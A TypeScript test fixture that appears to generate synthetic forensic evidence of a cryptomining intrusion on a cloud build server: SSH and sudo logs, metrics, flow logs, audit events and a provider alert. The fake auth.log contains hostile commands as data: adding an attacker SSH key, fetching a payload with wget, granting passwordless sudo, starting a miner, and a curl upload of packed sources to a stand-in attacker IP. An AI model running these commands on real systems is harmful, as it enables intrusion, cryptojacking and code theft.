/**
 * A build server with a month behind it, of which sign-ins, measurements, flows and an alert are known: somebody comes in
 * with its owner's key and mines. Times are those of the incident that the investigation of machines was written after.
 */
export const host = 'build-server-03';
const instance = 'ocid1.instance.oc1.iad.examplebuild';
export const office = '198.51.100.7';
export const thief = '203.0.113.89';
const guesser = '203.0.113.200';
export const pool = '203.0.113.50';
export const key = 'SHA256:uNiVztksCsDhcc0u9e8BrVvTXoxfrCTSTOVfSSvH0mA';
const addedKey = 'AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f';
const tenancy = 'ocid1.tenancy.oc1..exampletenancy';
const own = '10.0.0.5';

const two = (number: number): string => String(number).padStart(2, '0');
const said = (time: string, program: string, text: string): string => `${time} ${host} ${program}: ${text}`;
const signedIn = (time: string, pid: number, address: string): string =>
  said(time, `sshd[${pid}]`, `Accepted publickey for devops from ${address} port 51022 ssh2: ED25519 ${key}`);
const ranAsRoot = (time: string, command: string): string =>
  said(time, 'sudo[1010]', `  devops : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=${command}`);

/** The owner's week, forty guesses at root, and the intrusion of 10 February from 13:15 on, in UTC. */
const signIns: readonly string[] = [
  ...[5, 6, 7, 8, 9].flatMap((day) => [
    signedIn(`Feb  ${day} 14:02:10`, 800 + day, office),
    ranAsRoot(`Feb  ${day} 14:05:10`, '/usr/bin/apt update'),
  ]),
  ...Array.from({ length: 40 }, (_, minute) =>
    said(
      `Feb 10 12:${two(minute + 10)}:00`,
      `sshd[${900 + minute}]`,
      `Failed password for root from ${guesser} port ${50_000 + minute} ssh2`,
    ),
  ),
  signedIn('Feb 10 13:15:02', 1000, thief),
  ranAsRoot(
    'Feb 10 13:16:10',
    `/usr/bin/bash -c echo ssh-ed25519 ${addedKey} devops_temp_key >> /home/devops/.ssh/authorized_keys`,
  ),
  ranAsRoot('Feb 10 13:17:20', '/usr/bin/wget -q https://files.example.net/raw/xyz -O /tmp/.systemd/systemd-update'),
  said(
    'Feb 10 13:18:01',
    'useradd[1012]',
    'new user: name=ubuntu-update, UID=1001, GID=1001, home=/home/u, shell=/bin/bash',
  ),
  ranAsRoot('Feb 10 13:25:00', '/usr/bin/bash -c echo ubuntu-update ALL=(ALL) NOPASSWD:ALL > /etc/sudoers.d/90-u'),
  said('Feb 10 13:26:00', 'crontab[1015]', '(root) REPLACE (root)'),
  ranAsRoot('Feb 10 13:30:00', `/tmp/.systemd/systemd-update -o stratum+tcp://${pool}:3333 --donate-level 1`),
];

const metric = (name: string, unit: string, valueAt: (minute: number) => number | null): string =>
  JSON.stringify([
    {
      namespace: 'oci_computeagent',
      resourceGroup: null,
      compartmentId: 'ocid1.compartment.oc1..exampledevelopment',
      name,
      dimensions: {
        region: 'us-ashburn-1',
        resourceDisplayName: host,
        resourceId: instance,
        shape: 'VM.Standard.E3.Flex',
      },
      metadata: { displayName: name, unit },
      resolution: '5m',
      // Three days before midnight until the machine is gone.
      aggregatedDatapoints: Array.from({ length: (3 * 24 + 19) * 12 + 6 }, (_, index) => index * 5).map((minute) => ({
        timestamp: new Date(Date.UTC(2024, 1, 7, 0, minute)).toISOString(),
        value: valueAt(minute - 3 * 1440),
      })),
    },
  ]);

/** Per cent of all processors: 15 to 30 before, 98 from 13:35 on. `minute` is of 10 February. */
const cpu = metric('CpuUtilization', 'percent', (minute) =>
  minute >= 13 * 60 + 35 ? 98 : 15 + (((minute % 80) + 80) % 80) / 5,
);
/** 50 MB a day, and 2.3 GB in the hour before half past two in the afternoon, 19:30 in UTC. */
const bytesOut = metric('NetworksBytesOut', 'bytes', (minute) =>
  minute >= 18 * 60 + 30 && minute < 19 * 60 + 30 ? Math.round(2.3e9 / 12) : Math.round(50e6 / 288),
);

const flow = (index: number, minute: number, to: { address: string; port: number; bytes: number }): string =>
  JSON.stringify({
    data: {
      action: 'ACCEPT',
      bytesOut: to.bytes,
      destinationAddress: to.address,
      destinationPort: to.port,
      protocolName: 'TCP',
      sourceAddress: own,
      sourcePort: 40_000 + index,
      version: '2',
    },
    id: `flow-${index}`,
    oracle: { tenantid: tenancy, vnicocid: 'ocid1.vnic.oc1.iad.examplebuild', instanceocid: instance },
    time: new Date(Date.UTC(2024, 1, 10, 0, minute)).toISOString(),
    type: 'com.oraclecloud.vcn.flowlogs.DataEvent',
  });

/** A pool that is sent 3 KB a minute, and 2.3 GB to another port of another address. */
const flows: readonly string[] = [
  ...Array.from({ length: 48 }, (_, hour) =>
    flow(hour, (hour - 34) * 60 + 5, { address: office, port: 443, bytes: 2_000_000 }),
  ),
  ...Array.from({ length: 355 }, (_, minute) =>
    flow(1000 + minute, 13 * 60 + 35 + minute, { address: pool, port: 3333, bytes: 3000 }),
  ),
  ...Array.from({ length: 60 }, (_, minute) =>
    flow(2000 + minute, 18 * 60 + 30 + minute, { address: thief, port: 8080, bytes: Math.round(2.3e9 / 60) }),
  ),
];

const call = (id: string, time: string, name: string, resource: { id: string; name: string }, more: object = {}) =>
  JSON.stringify({
    eventType: `com.oraclecloud.computeApi.${name}`,
    cloudEventsVersion: '0.1',
    eventTypeVersion: '2.0',
    source: 'ComputeApi',
    eventId: id,
    eventTime: time,
    contentType: 'application/json',
    data: {
      eventGroupingId: id,
      eventName: name.split('.')[0],
      compartmentId: 'ocid1.compartment.oc1..exampledevelopment',
      resourceName: resource.name,
      resourceId: resource.id,
      identity: {
        principalName: 'olga',
        principalId: 'ocid1.user.oc1..exampleolga',
        authType: 'natv',
        tenantId: tenancy,
        ipAddress: office,
        credentials: `${tenancy}/ocid1.user.oc1..exampleolga/20:3b:97:13:55:1c:5b:0d:d3:37:d8:50:4e:c5:3a:34`,
        userAgent: 'Oracle-PythonSDK/2.139.1',
      },
      request: { id, path: '/20160918/instances', action: 'POST', parameters: {} },
      response: { status: '200', payload: {} },
      ...more,
    },
  });

/** Its launch in January, which tells its size. */
export const launch = call(
  'launch',
  '2024-01-15T10:00:00.000Z',
  'LaunchInstance',
  { id: instance, name: host },
  {
    stateChange: {
      previous: {},
      current: {
        id: instance,
        displayName: host,
        shape: 'VM.Standard.E3.Flex',
        shapeConfig: { ocpus: 16, memoryInGBs: 128 },
      },
    },
    additionalDetails: { shape: 'VM.Standard.E3.Flex' },
  },
);
export const terminate = call('terminate', '2024-02-10T21:00:00.000Z', 'TerminateInstance', {
  id: instance,
  name: host,
});

export const image = call(
  'image',
  '2024-02-10T20:00:00.000Z',
  'CreateImage',
  { id: instance, name: host },
  {
    stateChange: {
      previous: {},
      current: { id: 'ocid1.image.oc1.iad.examplecopy', instanceId: instance, displayName: 'copy' },
    },
  },
);

/** What the provider's alert says, detail by detail. */
const alertDetails = {
  tenantId: tenancy,
  status: 'OPEN',
  region: 'us-ashburn-1',
  problemName: 'CRYPTO_MINING',
  riskLevel: 'CRITICAL',
  riskScore: '95',
  problemType: 'THREAT',
  resourceName: host,
  resourceId: instance,
  resourceType: 'Instance',
  firstDetected: '2024-02-10T19:30:15.000Z',
  lastDetected: '2024-02-10T19:30:15.000Z',
  compromisedTime: 'Approximately 2024-02-10T13:00:00Z',
  cpuUsage: 'Normal 15-30%, now 98% sustained for 6+ hours',
  networkEgress: 'Normal 50MB/day, now 2.3GB in last hour',
  processes: '/usr/bin/xmrig, /tmp/.systemd/systemd-update, /var/tmp/.ICE-unix/kworker',
  connections: `${pool}:3333, ${thief}:8080, 203.0.113.51:4444`,
  sshLogin: `2024-02-10T13:15:00Z SSH login from ${thief}`,
  userCreated: 'New user created: ubuntu-update',
  keyAdded: 'Unauthorized SSH key added: devops_temp_key',
  sudo: 'Sudoers file modified',
};
const alert = (details: Readonly<Record<string, string>> = alertDetails): string =>
  JSON.stringify({
    eventType: 'com.oraclecloud.cloudguard.problemdetected',
    cloudEventsVersion: '0.1',
    eventTypeVersion: '2.0',
    source: 'CloudGuardResponderEngine',
    eventTime: '2024-02-10T19:30:15Z',
    contentType: 'application/json',
    data: {
      compartmentId: 'ocid1.compartment.oc1..exampledevelopment',
      resourceName: 'Unauthorised mining',
      resourceId: 'ocid1.cloudguardproblem.oc1.iad.examplemining',
      additionalDetails: details,
    },
    eventID: 'ev-mining',
  });

export type Files = Readonly<Record<string, string | readonly string[]>>;
/** The same, and that he packs its sources and sends them home. */
const packing: readonly string[] = [
  ranAsRoot('Feb 10 18:24:40', '/usr/bin/tar -C /srv -czf /var/tmp/.x/b.tgz sources'),
  ranAsRoot('Feb 10 18:30:05', `/usr/bin/curl -s -T /var/tmp/.x/b.tgz http://${thief}:8080/u`),
];

export const whole: Files = {
  'auth.log': signIns,
  'cpu.json': cpu,
  'bytes.json': bytesOut,
  'flows.ndjson': flows,
  'audit.ndjson': [launch],
  'alert.json': alert(),
};

export const emptied: Files = { ...whole, 'auth.log': [...signIns, ...packing] };
